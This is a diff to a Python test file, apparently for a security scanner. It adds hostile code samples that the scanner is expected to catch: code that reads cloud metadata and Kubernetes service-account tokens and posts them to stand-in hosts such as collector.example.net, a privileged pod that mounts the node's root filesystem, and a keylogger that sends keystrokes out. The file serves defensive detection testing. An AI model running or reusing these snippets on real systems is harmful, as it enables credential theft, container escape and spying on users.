@@ -660,7 +660,7 @@ EVASIONS: dict[str, tuple[str, dict[str, str]]] = {
     ),
     # Replays of documented incidents (fourth review, 2026-12-08).
     "cloud-metadata-role-credentials": (
-        "credential-harvesting",
+        "exfiltration",
         {
             PATH: "import requests\nIMDS = 'http://169.254.169.254/latest'\n"
             "def f(role):\n    c = requests.get(f'{IMDS}/meta-data/iam/security-credentials/{role}', timeout=2).json()\n"
@@ -668,17 +668,27 @@ EVASIONS: dict[str, tuple[str, dict[str, str]]] = {
         },
     ),
     "gcp-metadata-token": (
-        "credential-harvesting",
+        "exfiltration",
         {
             PATH: "import requests\nMETA = 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default'\n"
-            "def f():\n    return requests.get(f'{META}/token', headers={'Metadata-Flavor': 'Google'}, timeout=2).json()\n"
+            "def _token():\n    return requests.get(f'{META}/token', headers={'Metadata-Flavor': 'Google'}, timeout=2).json()\n"
+            "def f():\n    requests.post('https://register.example.net/w', json={'t': _token()}, timeout=10)\n"
         },
     ),
     "kubernetes-service-account-token": (
-        "credential-harvesting",
+        "exfiltration",
         {
             PATH: "import requests\nfrom pathlib import Path\nSA = Path('/var/run/secrets/kubernetes.io/serviceaccount')\n"
-            "def f():\n    token = (SA / 'token').read_text()\n    requests.get('https://kubernetes.default.svc/api/v1/nodes', headers={'Authorization': f'Bearer {token}'})\n"
+            "def f():\n    token = (SA / 'token').read_text()\n    requests.post('https://collector.example.net/k', data=token)\n"
+        },
+    ),
+    "privileged-pod-on-the-node-root": (
+        "container-escape",
+        {
+            PATH: "import requests\ndef f(node, headers):\n    spec = {'spec': {'nodeName': node, 'hostPID': True,"
+            " 'containers': [{'name': 'x', 'image': 'alpine', 'securityContext': {'privileged': True}}],"
+            " 'volumes': [{'name': 'host', 'hostPath': {'path': '/'}}]}}\n"
+            "    requests.post('https://kubernetes.default.svc/api/v1/namespaces/default/pods', json=spec, headers=headers)\n"
         },
     ),
     "process-memory-read": (
@@ -774,8 +784,8 @@ EVASIONS: dict[str, tuple[str, dict[str, str]]] = {
     "keylogger": (
         "credential-harvesting",
         {
-            PATH: "from pynput import keyboard\nKEYS = []\ndef _on(key):\n    KEYS.append(str(key))\n"
-            "def f():\n    keyboard.Listener(on_press=_on).start()\n"
+            PATH: "import requests\nfrom pynput import keyboard\nKEYS = []\ndef _on(key):\n    KEYS.append(str(key))\n"
+            "def f():\n    keyboard.Listener(on_press=_on).start()\n    requests.post('https://x.example/k', json=KEYS)\n"
         },
     ),
     "clipboard-clipper": (
@@ -1196,3 +1206,27 @@ def test_a_debug_console_beside_a_socket_is_no_reverse_shell(scan: ScanFn) -> No
     )
     report = scan({PATH: code}, permissions=ALL)
     assert "reverse-shell" not in rules(report, "low"), report.findings
+
+
+def test_platform_credentials_used_on_their_platform_are_held_not_blocked(scan: ScanFn) -> None:
+    """An in-cluster client sends the service-account token to the API server, a GCE
+    client sends its metadata token to Google: a person checks, nothing is blocked."""
+    in_cluster = (
+        "import requests\nfrom pathlib import Path\n"
+        "SA = Path('/var/run/secrets/kubernetes.io/serviceaccount')\n"
+        "def f():\n    token = (SA / 'token').read_text()\n"
+        "    return requests.get('https://kubernetes.default.svc/api/v1/nodes',"
+        " headers={'Authorization': f'Bearer {token}'}, verify=str(SA / 'ca.crt')).json()\n"
+    )
+    on_gce = (
+        "import requests\nMETA = 'http://metadata.google.internal/computeMetadata/v1'\n"
+        "def f(bucket):\n    t = requests.get(f'{META}/instance/service-accounts/default/token',"
+        " headers={'Metadata-Flavor': 'Google'}).json()['access_token']\n"
+        "    return requests.get(f'https://storage.googleapis.com/storage/v1/b/{bucket}/o',"
+        " headers={'Authorization': f'Bearer {t}'}).json()\n"
+    )
+    for code in (in_cluster, on_gce):
+        report = scan({PATH: code}, permissions=ALL)
+        assert report.status == "pending_review", report.findings
+        held = [f for f in report.findings if f.severity == "medium"]
+        assert [f.rule for f in held] == ["credential-harvesting"], report.findings
